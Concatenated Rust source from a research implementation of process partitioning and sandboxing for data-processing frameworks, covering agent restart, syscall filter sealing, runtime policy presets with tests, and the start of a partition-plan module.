        let tracing = self.tracer.enabled();
        let before = if tracing {
            Some((self.kernel.now_ns(), self.kernel.metrics().protected_pages))
        } else {
            None
        };
        for t in &threads {
            if let Some(sm) = self.states.get(t) {
                sm.reapply(&mut self.kernel, &self.objects, obj).ok();
            }
        }
        if let Some((t0, pages0)) = before {
            let now = self.kernel.now_ns();
            let pages = self.kernel.metrics().protected_pages - pages0;
            self.tracer.record_audit(AuditRecord::Reprotect {
                at_ns: t0,
                object: obj,
                pages,
            });
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Reprotect,
                seq: self.seq,
                api: None,
                partition: None,
                thread: threads[0],
                start_ns: t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Moves one object into the executing agent according to the LDC
    /// policy, re-applying temporal protection afterwards.
    fn move_to_agent(
        &mut self,
        thread: ThreadId,
        seq: u64,
        obj: ObjectId,
        agent_pid: Pid,
    ) -> Result<(), CallError> {
        let meta = self
            .objects
            .meta(obj)
            .ok_or(CallError::StateLost(obj))?
            .clone();
        if meta.home == agent_pid {
            return Ok(());
        }
        if meta.buffer.is_none() {
            // Buffer-less handles (windows, captures) carry no payload:
            // re-homing them is free and never lossy.
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            return Ok(());
        }
        if !self.kernel.is_running(meta.home) {
            return Err(CallError::StateLost(obj));
        }
        let tracing = self.tracer.enabled();
        let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        if self.policy.lazy_data_copy {
            // Direct move from wherever the payload lives (Fig. 11-a).
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            if meta.buffer.is_some() {
                self.stats.ldc_copies += 1;
                self.charge_transport(meta.len());
                if tracing {
                    self.tracer.add_lazy_bytes(seq, meta.len());
                }
            }
        } else {
            // Eager path through the host (Fig. 11-b).
            if meta.home != self.host {
                self.objects
                    .migrate_direct(&mut self.kernel, obj, self.host)
                    .map_err(|_| CallError::StateLost(obj))?;
                if meta.buffer.is_some() {
                    self.stats.host_copies += 1;
                    self.charge_transport(meta.len());
                    if tracing {
                        self.tracer.add_eager_bytes(seq, meta.len());
                    }
                }
            }
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            if meta.buffer.is_some() {
                self.stats.host_copies += 1;
                self.charge_transport(meta.len());
                if tracing {
                    self.tracer.add_eager_bytes(seq, meta.len());
                }
            }
        }
        if tracing {
            // The copy span closes *before* re-protection so Reprotect
            // time attributes to the mprotect bucket, not the copy one.
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::DataCopy,
                seq,
                api: None,
                partition: None,
                thread,
                start_ns: copy_t0,
                end_ns: now,
                bytes: meta.len(),
            });
        }
        self.reapply_all(obj);
        Ok(())
    }

    fn seal_agent(&mut self, partition: PartitionId) {
        let agent = self.agents.get_mut(&partition).expect("agent exists");
        let pid = agent.pid;
        let apis = agent.apis.clone();
        let Ok(process) = self.kernel.process(pid) else {
            return;
        };
        let mut filter = match self.policy.sandbox {
            SandboxLevel::None => return,
            SandboxLevel::PerAgent => build_filter(&self.reg, &self.profile, &apis, process),
            SandboxLevel::CoarseUnion => {
                // Whole-library sandbox: everything the library could
                // ever need, including mprotect for lazy loading — the
                // hole code-rewriting exploits walk through.
                let all: BTreeSet<ApiId> = self.reg.iter().map(|s| s.id).collect();
                let mut f = build_filter(&self.reg, &self.profile, &all, process);
                f.allow(freepart_simos::SyscallNo::Mprotect);
                f
            }
        };
        filter.lock();
        if self.kernel.install_filter(pid, filter).is_ok() {
            // PR_SET_NO_NEW_PRIVS: the configuration is now immutable
            // even from inside the process.
            if let Ok(p) = self.kernel.process_mut(pid) {
                p.no_new_privs = true;
            }
            self.agents
                .get_mut(&partition)
                .expect("agent exists")
                .sealed = true;
        }
    }

    fn take_snapshot(&mut self, partition: PartitionId) {
        let pid = self.agents[&partition].pid;
        let stateful: Vec<ObjectId> = self
            .objects
            .iter()
            .filter(|m| {
                m.home == pid
                    && matches!(
                        m.kind,
                        ObjectKind::Capture { .. }
                            | ObjectKind::Model { .. }
                            | ObjectKind::Classifier { .. }
                    )
            })
            .map(|m| m.id)
            .collect();
        let mut entries = Vec::new();
        for id in stateful {
            let meta = self.objects.meta(id).expect("listed above").clone();
            let bytes = self
                .objects
                .read_bytes(&mut self.kernel, id)
                .unwrap_or_default();
            entries.push(SnapshotEntry {
                object: id,
                kind: meta.kind,
                label: meta.label,
                bytes,
            });
        }
        self.snapshots.insert(partition, entries);
    }

    /// Respawns a crashed agent: new process, new code page, channel
    /// rebound, stateful snapshots restored (with temporal protection
    /// re-applied to them), the completion journal carried over, and —
    /// if the old process was already sealed — the syscall filter
    /// re-sealed immediately so the sandbox never reopens in the respawn
    /// window. Crashed-process variable values are deliberately **not**
    /// restored (§6).
    pub fn restart_agent(&mut self, partition: PartitionId) {
        self.restart_agent_on(partition, ThreadId::MAIN);
    }

    /// [`Runtime::restart_agent`] attributed to the application thread
    /// whose call triggered the restart (distinct trace rows per thread).
    fn restart_agent_on(&mut self, partition: PartitionId, thread: ThreadId) {
        let tracing = self.tracer.enabled();
        let restart_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let Some(agent) = self.agents.remove(&partition) else {
            return;
        };
        let chan = agent.chan;
        let was_sealed = agent.sealed;
        let new_pid = self.kernel.spawn(&format!("agent:{partition}+"));
        let code_page = self
            .kernel
            .alloc(new_pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        self.kernel
            .rebind_channel(chan, new_pid)
            .expect("channel exists");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid: new_pid,
                chan,
                code_page,
                apis: agent.apis,
                sealed: false,
                calls: agent.calls,
                // The journal of completed calls lives with the rebound
                // channel, not the dead process: the respawned agent can
                // still answer re-delivered requests it already executed.
                cache: agent.cache,
            },
        );
        // Restore snapshotted stateful objects into the new process, then
        // re-apply temporal protection — the restore writes into fresh RW
        // pages, and restart must not leave protected objects writable.
        if let Some(entries) = self.snapshots.get(&partition).cloned() {
            for entry in entries {
                if let Ok(addr) =
                    self.kernel
                        .alloc(new_pid, entry.bytes.len().max(1) as u64, Perms::RW)
                {
                    if self.kernel.mem_write(new_pid, addr, &entry.bytes).is_ok() {
                        if let Some(meta) = self.objects.meta_mut(entry.object) {
                            meta.home = new_pid;
                            meta.buffer = Some((addr, entry.bytes.len() as u64));
                            meta.kind = entry.kind.clone();
                            meta.label = entry.label.clone();
                        }
                        self.reapply_all(entry.object);
                    }
                }
            }
        }
        if was_sealed && self.policy.sandbox != SandboxLevel::None {
            self.seal_agent(partition);
        }
        self.stats.restarts += 1;
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Restart,
                seq: self.seq,
                api: None,
                partition: Some(partition),
                thread,
                start_ns: restart_t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Classifies a just-crashed agent's fault into an audit record:
    /// a denied syscall becomes a [`AuditRecord::FilterKill`], anything
    /// memory-related a [`AuditRecord::AccessDenied`] with the faulting
    /// address resolved back to the protected object it hit, when any.
    fn audit_agent_crash(
        &mut self,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        agent_pid: Pid,
        thread: ThreadId,
    ) {
        let Ok(process) = self.kernel.process(agent_pid) else {
            return;
        };
        let ProcessState::Crashed(fault) = &process.state else {
            return;
        };
        let fault = fault.clone();
        let at_ns = self.kernel.now_ns();
        let state = self.state_of(thread);
        match fault.kind {
            FaultKind::SyscallDenied(no) => {
                self.tracer.note_filter_kill(seq);
                self.tracer.record_audit(AuditRecord::FilterKill {
                    at_ns,
                    partition,
                    api,
                    state,
                    syscall: format!("{no:?}"),
                });
            }
            kind => {
                let addr = fault.addr.map(|a| a.0);
                let object = addr.and_then(|a| {
                    self.objects
                        .iter()
                        .find(|m| {
                            m.buffer
                                .is_some_and(|(base, len)| a >= base.0 && a < base.0 + len.max(1))
                        })
                        .map(|m| m.id)
                });
                self.tracer.record_audit(AuditRecord::AccessDenied {
                    at_ns,
                    partition,
                    api,
                    state,
                    object,
                    addr,
                    fault: format!("{kind:?}"),
                });
            }
        }
    }
}
