//! # freepart — framework-based execution partitioning and isolation
//!
//! The paper's primary contribution: harden data-processing applications
//! by (1) partitioning execution across **agent processes**, one per
//! framework-API type; (2) hooking framework APIs into RPCs with **Lazy
//! Data Copy**; (3) enforcing **temporal memory permissions** driven by
//! the framework-state machine; and (4) **restricting syscalls** per
//! agent with seccomp-style locked allowlists.
//!
//! ## Quickstart
//!
//! ```
//! use freepart::{Policy, Runtime};
//! use freepart_frameworks::registry::standard_registry;
//! use freepart_frameworks::{fileio, image::Image, Value};
//!
//! let mut rt = Runtime::install(standard_registry(), Policy::freepart());
//!
//! // Seed an input and run a hooked pipeline: each call executes in an
//! // isolated agent process.
//! rt.kernel.fs.put("/in.simg", fileio::encode_image(&Image::new(8, 8, 3), None));
//! let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
//! let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
//! let edges = rt.call("cv2.Canny", &[gray]).unwrap();
//! rt.call("cv2.imwrite", &[Value::from("/out.simg"), edges]).unwrap();
//! assert!(rt.kernel.fs.exists("/out.simg"));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod forensics;
pub mod partition;
pub mod policy;
pub mod rpc;
pub mod runtime;
pub mod state;
pub mod syscall_policy;
pub mod trace;

pub use forensics::{
    crash_forensics, journal_exactly_once, transition_windows, w_grant_discipline, CrashForensics,
    TransitionWindow,
};
pub use partition::{PartitionId, PartitionPlan};
pub use policy::{
    AdaptiveConfig, ChannelTransport, HostDataPlacement, Policy, PoolConfig, RestartBudget,
    RestartPolicy, SandboxLevel,
};
pub use runtime::transport::{Transport, TransportCtx};
pub use runtime::{
    AdaptiveKnobs, Agent, CallError, CallHandle, Runtime, RuntimeStats, TenantHandle, TenantId,
    ThreadId,
};
pub use state::{FrameworkState, StateMachine};
pub use trace::{
    ApiStats, AuditRecord, Bucket, BucketTotals, CallOutcome, FlushReason, Log2Histogram,
    PolicyDecision, SpanEvent, SpanPhase, Tracer,
};
