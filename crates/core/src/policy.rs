//! Runtime policy: the knobs the paper's ablations — and the baseline
//! isolation schemes of Table 1 — turn.

use crate::partition::PartitionPlan;
use freepart_frameworks::api::ApiType;

/// How aggressively agents' syscalls are restricted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SandboxLevel {
    /// No filtering at all (monolithic / memory-based baselines).
    None,
    /// One coarse allowlist: the union of *every* catalog API's profile
    /// plus `mprotect` (a whole-library sandbox must permit everything
    /// the library ever does — which is why code-rewriting still works
    /// inside it).
    CoarseUnion,
    /// FreePart's per-agent union of the assigned APIs' profiles, with
    /// fd/destination rules, sealed after first execution.
    PerAgent,
}

/// What kind of *channel* carries bytes that do get copied across
/// process boundaries. (Not to be confused with the object-payload
/// [`Transport`](crate::runtime::transport::Transport) trait, which
/// decides *whether* a payload is copied at all.)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChannelTransport {
    /// FreePart's shared-memory rings: one memcpy per move.
    SharedMemory,
    /// Pipe/socket RPC (sandboxed-api / PtrSplit style): serialization
    /// plus kernel buffering make each byte several times dearer.
    Pipe,
}

impl ChannelTransport {
    /// Extra per-copy cost multiplier relative to shared memory.
    pub fn penalty_factor(self) -> u64 {
        match self {
            ChannelTransport::SharedMemory => 1,
            ChannelTransport::Pipe => 16,
        }
    }
}

/// Where host-application data objects live.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostDataPlacement {
    /// In the host process (FreePart; the library-based schemes).
    Host,
    /// Co-located with the agent of one API type — the code-based API
    /// isolation baseline puts `template` in the same process as
    /// `imread()` (Fig. 2-a), which is exactly its weakness.
    WithType(ApiType),
    /// Each critical object in its own dedicated process, shipped to
    /// users per access (Fig. 2-b, PtrSplit/PM-style) — strong but
    /// IPC-heavy.
    OwnProcessEach,
}

/// What happens when an agent process crashes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RestartPolicy {
    /// Respawn the agent, restore stateful snapshots, re-execute the
    /// in-flight request once (at-least-once RPC, §4.4.2).
    Restart,
    /// Leave the agent dead — security over availability.
    StayDown,
}

/// Token-bucket restart budget for the supervisor (§ availability
/// hardening): each respawn spends one token; tokens refill at
/// `refill_ns` of virtual time apiece up to `burst`. Consecutive
/// restarts without a full bucket also pay exponential backoff. When
/// the bucket is empty the partition is *degraded* — hooked calls fail
/// fast with `AgentUnavailable` instead of feeding a respawn loop, and
/// the denial is audited as `RestartDenied`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RestartBudget {
    /// Maximum restarts a partition can burst through back-to-back.
    pub burst: u32,
    /// Virtual ns to mint one replacement token.
    pub refill_ns: u64,
    /// Base backoff charged before the k-th consecutive restart:
    /// `backoff_ns << min(k-1, 10)`.
    pub backoff_ns: u64,
}

impl Default for RestartBudget {
    fn default() -> Self {
        RestartBudget {
            burst: 6,
            refill_ns: 5_000_000,
            backoff_ns: 2_000,
        }
    }
}

/// Tuning constants for the closed-loop adaptive policy controller.
///
/// All fields are integers so controller state stays exactly
/// reproducible (no float drift between runs) and the config itself is
/// `Eq`-comparable. The EWMA smoothing factor is `1 / 2^ewma_shift`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AdaptiveConfig {
    /// Object-size threshold (bytes) the controller *may* enable per
    /// partition: once a partition's payload evidence clears the
    /// promotion band, objects at or above this size ride the zero-copy
    /// shm transport there. Mirrors [`Policy::DEFAULT_SHM_THRESHOLD`].
    pub shm_threshold: u64,
    /// Upper bound on the per-partition batch window the controller can
    /// pick. Mirrors [`Policy::DEFAULT_BATCH_WINDOW`].
    pub max_batch_window: usize,
    /// Upper bound on the per-partition pipeline (in-flight) window.
    pub max_pipeline_window: usize,
    /// EWMA smoothing: new estimates blend in at weight `1 / 2^shift`.
    pub ewma_shift: u32,
    /// Hysteresis hold-down: after any knob change the partition's
    /// knobs are pinned for this many decision points, so estimates
    /// hovering at a boundary cannot make decisions flap.
    pub hold_points: u32,
}

impl Default for AdaptiveConfig {
    fn default() -> Self {
        AdaptiveConfig {
            shm_threshold: Policy::DEFAULT_SHM_THRESHOLD,
            max_batch_window: Policy::DEFAULT_BATCH_WINDOW,
            max_pipeline_window: 8,
            ewma_shift: 1,
            hold_points: 2,
        }
    }
}

/// Configuration for the pooled multi-tenant serving mode.
///
/// In pooled mode the runtime's four `part0..part3` agents are shared
/// *pools*: every tenant pipeline routes its hooked calls to the same
/// four agent processes instead of owning a private striped agent set,
/// so the data plane runs 4 + N processes instead of 5N. Isolation
/// inside each shared agent comes from per-tenant capability slots
/// (object handles and shm grants are gated on the calling tenant's
/// namespace) and fairness from deficit-round-robin run queues per
/// pool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoolConfig {
    /// Deficit-round-robin quantum: cost units (one per hooked call)
    /// a tenant may consume per head-of-ring visit of a pool's run
    /// queue. Larger quanta amortize switching at the price of a wider
    /// worst-case scheduling window.
    pub quantum: u64,
}

impl Default for PoolConfig {
    fn default() -> Self {
        PoolConfig { quantum: 2 }
    }
}

/// Full runtime configuration.
#[derive(Debug, Clone)]
pub struct Policy {
    /// Partition plan (four canonical partitions by default).
    pub plan: PartitionPlan,
    /// Lazy Data Copy: pass objects by reference, move bytes directly
    /// agent→agent on dereference (§4.3.2). Off = eager deep copy
    /// through the host on every call.
    pub lazy_data_copy: bool,
    /// Syscall-restriction strength (§4.4.1).
    pub sandbox: SandboxLevel,
    /// Placement of host-annotated critical data.
    pub host_data: HostDataPlacement,
    /// Cross-process byte channel (copy-cost multiplier).
    pub transport: ChannelTransport,
    /// Payload-size threshold (bytes) at or above which object payloads
    /// ride the zero-copy shared-memory transport (page-mapped segments
    /// with per-process temporal grants) instead of being byte-copied.
    /// `None` disables the Shm transport entirely, preserving the
    /// pre-shm data plane bit-for-bit.
    pub shm_threshold: Option<u64>,
    /// Maximum number of consecutive same-partition calls coalesced
    /// into a single IPC frame before a forced flush. `None` disables
    /// batching entirely, preserving the one-frame-per-call plane
    /// bit-for-bit. Batches also flush early on a partition switch, a
    /// host dereference/`wait` hazard, or a framework state transition,
    /// so results are byte-identical either way — only the frame count
    /// (and its latency bill) changes.
    pub batch_window: Option<usize>,
    /// Temporal memory permissions: previous-state objects become
    /// read-only on state transitions (§4.4.3).
    pub temporal_protection: bool,
    /// Crash handling.
    pub restart: RestartPolicy,
    /// Snapshot stateful objects every this-many calls per agent
    /// (§A.2.4); `0` disables snapshotting.
    pub snapshot_interval: u64,
    /// Copy only objects whose write epoch moved since the previous
    /// snapshot, reusing prior bytes for proven-clean ones. Snapshot
    /// reads are uncharged in virtual time, so this changes no timing —
    /// only the `snapshot_bytes_copied` / `snapshot_objects_skipped`
    /// counters — which is why it can default on.
    pub incremental_snapshots: bool,
    /// Pre-forked spare agents kept per partition; a restart adopts a
    /// spare (rebind + reseal) instead of paying a cold spawn. `0`
    /// disables pre-forking entirely, preserving the cold-restart path
    /// bit-for-bit.
    pub warm_spares: u32,
    /// Supervised restart budget; `None` means unlimited restarts (the
    /// pre-supervisor behavior, preserved bit-for-bit).
    pub restart_budget: Option<RestartBudget>,
    /// Route type-neutral APIs to the calling context's agent instead of
    /// their own type's agent (§4.2).
    pub colocate_type_neutral: bool,
    /// Kernel flight recorder: append every state-mutating kernel
    /// transition to the commit log (with a running state digest) so the
    /// whole run can be replayed bit-for-bit and audited after the fact.
    /// Off by default — recording must not perturb the benchmark
    /// artifacts, and a disabled recorder costs one branch per kernel
    /// entry point.
    pub record_commits: bool,
    /// Closed-loop adaptive policy controller: per (partition, API)
    /// EWMA estimators feed knob decisions (shm promotion, batch
    /// window, pipeline window) taken only at state-transition drain
    /// barriers, with hysteresis. `None` disables the controller
    /// entirely, preserving the static-policy planes bit-for-bit.
    pub adaptive: Option<AdaptiveConfig>,
    /// Multi-tenant pooled serving: N tenant pipelines share the four
    /// `part0..part3` agent pools (4 + N processes instead of 5N), with
    /// per-tenant capability slots inside each shared agent and
    /// deficit-round-robin fair scheduling across tenants. `None`
    /// disables pooling entirely, preserving the one-agent-set-per-
    /// pipeline plane bit-for-bit.
    pub pooled: Option<PoolConfig>,
}

impl Default for Policy {
    fn default() -> Self {
        Policy {
            plan: PartitionPlan::four(),
            lazy_data_copy: true,
            sandbox: SandboxLevel::PerAgent,
            host_data: HostDataPlacement::Host,
            transport: ChannelTransport::SharedMemory,
            shm_threshold: None,
            batch_window: None,
            temporal_protection: true,
            restart: RestartPolicy::Restart,
            snapshot_interval: 8,
            incremental_snapshots: true,
            warm_spares: 0,
            restart_budget: None,
            colocate_type_neutral: true,
            record_commits: false,
            adaptive: None,
            pooled: None,
        }
    }
}

impl Policy {
    /// The paper's full FreePart configuration.
    pub fn freepart() -> Policy {
        Policy::default()
    }

    /// FreePart minus Lazy Data Copy (the 9.7%-overhead ablation).
    pub fn without_ldc() -> Policy {
        Policy {
            lazy_data_copy: false,
            ..Policy::default()
        }
    }

    /// Security-over-availability variant.
    pub fn no_restart() -> Policy {
        Policy {
            restart: RestartPolicy::StayDown,
            ..Policy::default()
        }
    }

    /// Full FreePart with the zero-copy shared-memory transport for
    /// payloads of [`Policy::DEFAULT_SHM_THRESHOLD`] bytes and up.
    /// Smaller objects stay buffer-backed (copying a few hundred bytes
    /// is cheaper than a grant + page map, and keeps them addressable
    /// for byte-granular temporal protection).
    pub fn freepart_shm() -> Policy {
        Policy {
            shm_threshold: Some(Policy::DEFAULT_SHM_THRESHOLD),
            ..Policy::default()
        }
    }

    /// Full FreePart with adaptive hooked-call batching: up to
    /// [`Policy::DEFAULT_BATCH_WINDOW`] consecutive same-partition calls
    /// share one request frame and one response frame.
    pub fn freepart_batched() -> Policy {
        Policy {
            batch_window: Some(Policy::DEFAULT_BATCH_WINDOW),
            ..Policy::default()
        }
    }

    /// Full FreePart under a real supervisor: warm spares absorb agent
    /// deaths and a token-bucket budget turns a crash storm into a
    /// degraded (fail-fast, audited) partition instead of a respawn loop.
    pub fn freepart_supervised() -> Policy {
        Policy {
            warm_spares: 2,
            restart_budget: Some(RestartBudget::default()),
            ..Policy::default()
        }
    }

    /// Full FreePart with the kernel flight recorder on: every
    /// state-mutating kernel transition lands in the commit log, so the
    /// run can be replayed digest-identical and audited from the log
    /// alone (`freepart_simos::replay`).
    pub fn freepart_recorded() -> Policy {
        Policy {
            record_commits: true,
            ..Policy::default()
        }
    }

    /// Full FreePart with every performance and availability mechanism
    /// composed: size-thresholded shm transport, hooked-call batching,
    /// and the supervised restart path (warm spares + token-bucket
    /// budget). The mechanisms were each proven transparent in
    /// isolation; this preset is the composition the interaction tests
    /// exercise.
    pub fn freepart_full() -> Policy {
        Policy {
            shm_threshold: Some(Policy::DEFAULT_SHM_THRESHOLD),
            batch_window: Some(Policy::DEFAULT_BATCH_WINDOW),
            warm_spares: 2,
            restart_budget: Some(RestartBudget::default()),
            ..Policy::default()
        }
    }

    /// Full FreePart with the closed-loop adaptive controller: no
    /// static transport/batching knobs are set — every (partition, API)
    /// starts from the batched prior and the controller re-picks shm
    /// promotion, batch window, and pipeline window from observed
    /// evidence at state-transition drain barriers.
    pub fn freepart_adaptive() -> Policy {
        Policy {
            adaptive: Some(AdaptiveConfig::default()),
            ..Policy::default()
        }
    }

    /// Full FreePart in multi-tenant pooled serving mode: N tenant
    /// pipelines multiplex hooked calls over the shared `part0..part3`
    /// agent pools with per-tenant capability slots and deficit-round-
    /// robin fairness. Everything else stays at the proven defaults —
    /// pooling composes with shm, batching, supervision, and recording
    /// by setting those knobs alongside `pooled`.
    pub fn freepart_pooled() -> Policy {
        Policy {
            pooled: Some(PoolConfig::default()),
            ..Policy::default()
        }
    }
}

impl Policy {
    /// Default map-vs-copy crossover: a quarter page. At the default
    /// cost model, copying 1 KiB (1.1 µs) already costs more than
    /// granting + mapping the page that holds it (~0.5 µs).
    pub const DEFAULT_SHM_THRESHOLD: u64 = 1024;

    /// Default batch window. Matches the default pipeline window: a
    /// batch is one unit of the per-partition in-flight budget, and
    /// longer runs of un-retired calls would only grow the journal.
    pub const DEFAULT_BATCH_WINDOW: usize = 8;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_is_full_freepart() {
        let p = Policy::default();
        assert!(p.lazy_data_copy);
        assert_eq!(p.sandbox, SandboxLevel::PerAgent);
        assert_eq!(p.host_data, HostDataPlacement::Host);
        assert!(p.temporal_protection);
        assert_eq!(p.restart, RestartPolicy::Restart);
        assert_eq!(p.plan.partition_count(), 4);
    }

    #[test]
    fn ablation_constructors() {
        assert!(!Policy::without_ldc().lazy_data_copy);
        assert_eq!(Policy::no_restart().restart, RestartPolicy::StayDown);
    }

    #[test]
    fn shm_is_opt_in() {
        assert_eq!(Policy::default().shm_threshold, None);
        assert_eq!(
            Policy::freepart_shm().shm_threshold,
            Some(Policy::DEFAULT_SHM_THRESHOLD)
        );
        // Everything else matches full FreePart.
        let shm = Policy::freepart_shm();
        assert!(shm.lazy_data_copy);
        assert!(shm.temporal_protection);
    }

    #[test]
    fn batching_is_opt_in() {
        assert_eq!(Policy::default().batch_window, None);
        assert_eq!(
            Policy::freepart_batched().batch_window,
            Some(Policy::DEFAULT_BATCH_WINDOW)
        );
        // Everything else matches full FreePart.
        let batched = Policy::freepart_batched();
        assert!(batched.lazy_data_copy);
        assert!(batched.temporal_protection);
        assert_eq!(batched.shm_threshold, None);
    }

    #[test]
    fn supervision_is_opt_in() {
        // Seed-identical defaults: no spares, no budget.
        let d = Policy::default();
        assert_eq!(d.warm_spares, 0);
        assert_eq!(d.restart_budget, None);
        let s = Policy::freepart_supervised();
        assert_eq!(s.warm_spares, 2);
        assert_eq!(s.restart_budget, Some(RestartBudget::default()));
        // Everything else matches full FreePart.
        assert!(s.lazy_data_copy);
        assert!(s.temporal_protection);
        assert_eq!(s.shm_threshold, None);
        assert_eq!(s.batch_window, None);
    }

    #[test]
    fn recording_is_opt_in() {
        // Seed-identical defaults: the flight recorder is off, so the
        // benchmark artifacts stay byte-identical.
        assert!(!Policy::default().record_commits);
        let r = Policy::freepart_recorded();
        assert!(r.record_commits);
        // Everything else matches full FreePart.
        assert!(r.lazy_data_copy);
        assert!(r.temporal_protection);
        assert_eq!(r.shm_threshold, None);
        assert_eq!(r.batch_window, None);
    }

    #[test]
    fn adaptive_is_opt_in() {
        // Seed-identical defaults: no controller, static planes only.
        assert_eq!(Policy::default().adaptive, None);
        let a = Policy::freepart_adaptive();
        assert_eq!(a.adaptive, Some(AdaptiveConfig::default()));
        // The static knobs stay unset — the controller owns them.
        assert_eq!(a.shm_threshold, None);
        assert_eq!(a.batch_window, None);
        // Everything else matches full FreePart.
        assert!(a.lazy_data_copy);
        assert!(a.temporal_protection);
        // The controller's bounds mirror the proven static presets.
        let cfg = AdaptiveConfig::default();
        assert_eq!(cfg.shm_threshold, Policy::DEFAULT_SHM_THRESHOLD);
        assert_eq!(cfg.max_batch_window, Policy::DEFAULT_BATCH_WINDOW);
    }

    #[test]
    fn pooling_is_opt_in() {
        // Seed-identical defaults: every pipeline owns its agent set.
        assert_eq!(Policy::default().pooled, None);
        let p = Policy::freepart_pooled();
        assert_eq!(p.pooled, Some(PoolConfig::default()));
        assert!(PoolConfig::default().quantum >= 1);
        // Everything else matches full FreePart.
        assert!(p.lazy_data_copy);
        assert!(p.temporal_protection);
        assert_eq!(p.shm_threshold, None);
        assert_eq!(p.batch_window, None);
        assert_eq!(p.adaptive, None);
    }

    #[test]
    fn full_composes_every_mechanism() {
        let f = Policy::freepart_full();
        assert_eq!(f.shm_threshold, Some(Policy::DEFAULT_SHM_THRESHOLD));
        assert_eq!(f.batch_window, Some(Policy::DEFAULT_BATCH_WINDOW));
        assert_eq!(f.warm_spares, 2);
        assert_eq!(f.restart_budget, Some(RestartBudget::default()));
        // Still full FreePart underneath.
        assert!(f.lazy_data_copy);
        assert!(f.temporal_protection);
        assert_eq!(f.sandbox, SandboxLevel::PerAgent);
        assert_eq!(f.adaptive, None);
    }

    #[test]
    fn incremental_snapshots_default_on_and_timing_neutral() {
        // Snapshot copies are uncharged in virtual time, so the default
        // can be `true` without moving any benchmark number.
        assert!(Policy::default().incremental_snapshots);
    }
}
