//! Execution partitioning: which agent process runs which API.
//!
//! The canonical plan is the paper's four partitions — one per
//! [`ApiType`]. Finer plans (used by the Fig. 4 / §A.1.4 experiments)
//! split the data-processing partition into extra groups; coarser ones
//! merge everything into a single "entire library" partition (the
//! library-based baseline reuses this machinery).

use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::BTreeMap;
use std::fmt;

/// Identifier of one partition (and its agent process).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct PartitionId(pub u32);

impl fmt::Display for PartitionId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "part{}", self.0)
    }
}

/// A complete assignment of API types (and optionally individual APIs)
/// to partitions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PartitionPlan {
    base: BTreeMap<ApiType, PartitionId>,
    overrides: BTreeMap<ApiId, PartitionId>,
    count: u32,
}

impl PartitionPlan {
    /// The paper's canonical four-partition plan.
    pub fn four() -> PartitionPlan {
        let mut base = BTreeMap::new();
        for (i, t) in ApiType::ALL.into_iter().enumerate() {
            base.insert(t, PartitionId(i as u32));
        }
        PartitionPlan {
            base,
            overrides: BTreeMap::new(),
            count: 4,
        }
    }

    /// A plan with an explicit type→partition map (the code-based
    /// baselines' layouts).
    ///
    /// # Panics
    ///
    /// Panics unless all four types are mapped.
    pub fn custom(base: BTreeMap<ApiType, PartitionId>) -> PartitionPlan {
        for t in ApiType::ALL {
            assert!(base.contains_key(&t), "type {t} unmapped");
        }
        let count = base.values().map(|p| p.0 + 1).max().unwrap_or(1);
        PartitionPlan {
            base,
            overrides: BTreeMap::new(),
            count,
        }
    }

    /// A single-partition plan (the "entire library in one process"
    /// baseline).
    pub fn single() -> PartitionPlan {
        let mut base = BTreeMap::new();
        for t in ApiType::ALL {
            base.insert(t, PartitionId(0));
        }
        PartitionPlan {
            base,
            overrides: BTreeMap::new(),
            count: 1,
        }
    }

    /// One partition per individual API (the per-API isolation
    /// baseline). `apis` is the application's API universe.
    pub fn per_api<I: IntoIterator<Item = ApiId>>(apis: I, reg: &ApiRegistry) -> PartitionPlan {
        let mut plan = PartitionPlan::four();
        // Types keep partitions 0..3 as fallbacks; every known API gets
        // its own partition above that.
        let mut next = 4;
        for api in apis {
            let _ = reg.spec(api); // validates the id
            plan.overrides.insert(api, PartitionId(next));
            next += 1;
        }
        plan.count = next;
        plan
    }

    /// The Fig. 4 experiment: start from four partitions and randomly
    /// split the data-processing APIs in `universe` into
    /// `n_total - 3` processing groups, yielding `n_total` partitions.
    ///
    /// # Panics
    ///
    /// Panics when `n_total < 4`.
    pub fn random_split(
        reg: &ApiRegistry,
        universe: &[ApiId],
        n_total: u32,
        seed: u64,
    ) -> PartitionPlan {
        assert!(n_total >= 4, "need at least the four canonical partitions");
        let mut plan = PartitionPlan::four();
        if n_total == 4 {
            return plan;
        }
        let processing: Vec<ApiId> = universe
            .iter()
            .copied()
            .filter(|id| reg.spec(*id).declared_type == ApiType::DataProcessing)
            .collect();
        let groups = (n_total - 3) as usize; // processing splits into these
        let mut rng = StdRng::seed_from_u64(seed);
        for api in processing {
